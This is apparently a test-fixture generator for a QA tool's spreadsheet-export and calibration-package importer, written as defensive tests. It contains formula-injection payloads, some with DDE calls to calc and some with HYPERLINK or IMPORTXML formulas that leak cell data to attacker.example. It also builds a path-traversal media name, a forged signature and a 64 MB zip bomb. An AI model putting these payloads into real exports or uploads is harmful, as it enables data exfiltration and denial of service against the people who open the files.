"""Write the hostile files for the export and calibration-package tests into tests/data/hostile/exports/ and
tests/data/hostile/packages/ (run: python make_export_corpus.py). Everything here is invented for the tests.

exports/  text that a spreadsheet program would run as a formula, in a chat file the importer reads (agent,
          customer, queue and messages) and as a list for names, comments, coaching notes and audit entries.
packages/ calibration packages that must be refused: not a zip, no manifest, unsigned, and manifests that are
          malformed (deep nesting, wrong types, a recording that is not in the package or that climbs out of its
          folder, a NUL in a text, too many entries) or that carry a zip bomb. The tests sign these manifests with a
          key of their own, so the checks behind the signature are reached too."""

from __future__ import annotations

import hashlib
import json
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
EXPORTS = HERE / "exports"
PACKAGES = HERE / "packages"

# Formula injection: each starts with = + - @, a tab or a carriage return (the usual payloads, and a negative number
# written as text, which must stay the text it was). "\x07" is a control character a workbook cannot hold.
HOSTILE_TEXTS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your refund")',
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-42",
    "=1+1\x07 bell",
    "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2),\"//a\")",
]


def hostile_chat() -> dict:
    messages = [{"author": "@customer", "timestamp": f"2024-03-01T10:{i:02d}:00", "text": text}
                for i, text in enumerate(HOSTILE_TEXTS)]  # fmt: skip
    messages.insert(1, {"author": "=HYPERLINK(\"http://attacker.example\",\"agent\")",
                        "timestamp": "2024-03-01T10:00:30", "text": "+Hello, how can I help?"})  # fmt: skip
    return {"id": "=EXT-1", "agent": "=HYPERLINK(\"http://attacker.example\",\"agent\")", "queue": "-Returns",
            "customer": "@customer", "messages": messages}  # fmt: skip


def _base_manifest() -> dict:
    """A well-formed package manifest for one chat, which the malformed ones below break one field at a time."""
    return {
        "format": "qa-studio-calibration-package", "format_version": 2,
        "session": {"id": 7, "title": "Hostile week", "created_at": "2026-11-30T09:00:00", "tolerance": 5.0,
                    "lead": "Nobody Here"},
        "reviewers": ["刘洋"], "expert": None,
        "scorecard": {"key": "hostile_card", "version": 1, "definition": {
            "key": "hostile_card", "name": {"en": "Hostile card"}, "channel": "chat", "pass_mark": 80,
            "sections": [{"key": "s", "label": {"en": "S"}, "weight": 100, "criteria": [
                {"key": "c", "label": {"en": "C"}, "type": "yes_no", "points": 10}]}]}},
        "interactions": [{
            "id": 1, "channel": "chat", "direction": "inbound", "queue": None, "started_at": "2024-03-01T10:00:00",
            "duration_ms": 60000, "agent": "Unknown Agent", "external_id": "H-1", "subject": None,
            "messages": [{"seq": 0, "author": "Customer", "role": "customer", "text": "Hello",
                          "sent_at": "2024-03-01T10:00:00"}],
            "transcript": None, "media": None,
        }],
    }  # fmt: skip


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def malformed_manifests() -> dict[str, bytes]:
    """name → manifest bytes; each must be refused with a reason."""
    out: dict[str, bytes] = {}
    base = json.dumps(_base_manifest(), ensure_ascii=False)
    out["deep_nesting"] = base.replace('"subject": null', f'"subject": {_nested(100_000)}').encode()
    out["moderate_nesting"] = base.replace('"subject": null', f'"subject": {_nested(200)}').encode()
    wrong = _base_manifest()
    wrong["interactions"][0]["messages"][0]["seq"] = "first"
    out["wrong_type_seq"] = json.dumps(wrong).encode()
    wrong = _base_manifest()
    wrong["interactions"] = {"0": "not a list"}
    out["wrong_type_interactions"] = json.dumps(wrong).encode()
    wrong = _base_manifest()
    wrong["interactions"][0]["started_at"] = 12345
    out["wrong_type_date"] = json.dumps(wrong).encode()
    wrong = _base_manifest()
    wrong["session"]["title"] = "x" * 5000
    out["too_long_title"] = json.dumps(wrong).encode()
    wrong = _base_manifest()
    wrong["interactions"][0]["messages"][0]["text"] = "NUL \x00 inside"
    out["nul_in_text"] = json.dumps(wrong).encode()
    out["huge_number"] = base.replace('"duration_ms": 60000', '"duration_ms": ' + "9" * 5000).encode()
    wrong = _base_manifest()
    del wrong["scorecard"]
    out["missing_scorecard"] = json.dumps(wrong).encode()
    wrong = _base_manifest()
    wrong["scorecard"]["definition"]["sections"] = "nothing"
    out["broken_scorecard"] = json.dumps(wrong).encode()
    for name, member in (("missing_media", "media/1.opus"), ("traversal_media", "../../outside.opus")):
        wrong = _base_manifest()
        wrong["interactions"][0]["media"] = {"file": member, "sha256": "0" * 64, "size_bytes": 10,
                                             "duration_ms": 1, "sample_rate": 8000, "channels": 1, "codec": "opus",
                                             "container": "ogg"}  # fmt: skip
        out[name] = json.dumps(wrong).encode()
    out["not_json"] = b'{"format": "qa-studio-calibration-package", '
    return out


BOMB_BYTES = 64 * 1024 * 1024  # compresses to about 64 KB


def bomb_manifest() -> dict:
    """A manifest that says its recording is 1,000 bytes; the zip holds 64 MB of zeros under that name."""
    manifest = _base_manifest()
    manifest["interactions"][0]["media"] = {
        "file": "media/1.wav", "sha256": hashlib.sha256(b"\0" * 1000).hexdigest(), "size_bytes": 1000,
        "duration_ms": 1, "sample_rate": 8000, "channels": 1, "codec": "pcm_s16le", "container": "wav",
    }  # fmt: skip
    return manifest


def write_exports() -> None:
    EXPORTS.mkdir(exist_ok=True)
    (EXPORTS / "hostile_texts.json").write_text(json.dumps(HOSTILE_TEXTS, ensure_ascii=False, indent=1) + "\n",
                                                encoding="utf-8")  # fmt: skip
    (EXPORTS / "hostile_chat.json").write_text(json.dumps(hostile_chat(), ensure_ascii=False, indent=1) + "\n",
                                               encoding="utf-8")  # fmt: skip


def _zip(path: Path, entries: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 12, 1, 0, 0, 0))  # the same bytes on every run
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)


def write_packages() -> None:
    PACKAGES.mkdir(exist_ok=True)
    (PACKAGES / "not_a_zip.qacal").write_bytes(b"PK\x03\x04 this is not really a zip file")
    good = json.dumps(_base_manifest(), ensure_ascii=False).encode()
    _zip(PACKAGES / "no_manifest.qacal", {"signatures.json": b'{"reviewers": {}}'})
    _zip(PACKAGES / "unsigned.qacal", {"manifest.json": good})
    # Signed for 刘洋 with a key nobody has: a forgery of a well-formed package.
    _zip(PACKAGES / "forged.qacal", {"manifest.json": good, "signatures.json": json.dumps(
        {"algorithm": "HMAC-SHA256", "reviewers": {"刘洋": hashlib.sha256(good).hexdigest()}}).encode()})
    for name, manifest in malformed_manifests().items():
        _zip(PACKAGES / f"malformed_{name}.qacal", {"manifest.json": manifest, "signatures.json": b'{"reviewers": {}}'})
    _zip(PACKAGES / "zip_bomb.qacal", {"manifest.json": json.dumps(bomb_manifest()).encode(),
                                       "signatures.json": b'{"reviewers": {}}', "media/1.wav": b"\0" * BOMB_BYTES})


def main() -> None:
    write_exports()
    write_packages()


if __name__ == "__main__":
    main()
